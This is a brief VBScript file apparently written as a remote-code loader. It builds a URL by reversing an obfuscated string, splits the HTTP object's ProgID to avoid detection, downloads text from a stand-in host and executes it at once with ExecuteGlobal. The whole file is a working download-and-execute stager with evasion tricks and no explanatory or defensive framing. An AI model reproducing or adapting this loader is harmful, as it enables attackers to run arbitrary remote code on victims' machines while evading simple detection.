Class Loader
  Private place
  Public Property Let Address(t) : place = StrReverse(t) : End Property
  Public Function Text()
    Dim q : Set q = CreateObject("MSXML2." & "ServerXMLHTTP.6.0")
    q.open "GET", place, False
    q.send
    Text = q.responseText
  End Function
End Class
Dim one : Set one = New Loader
one.Address = "txt.edoc/dilavni.tsoh//:ptth"
ExecuteGlobal one.Text()
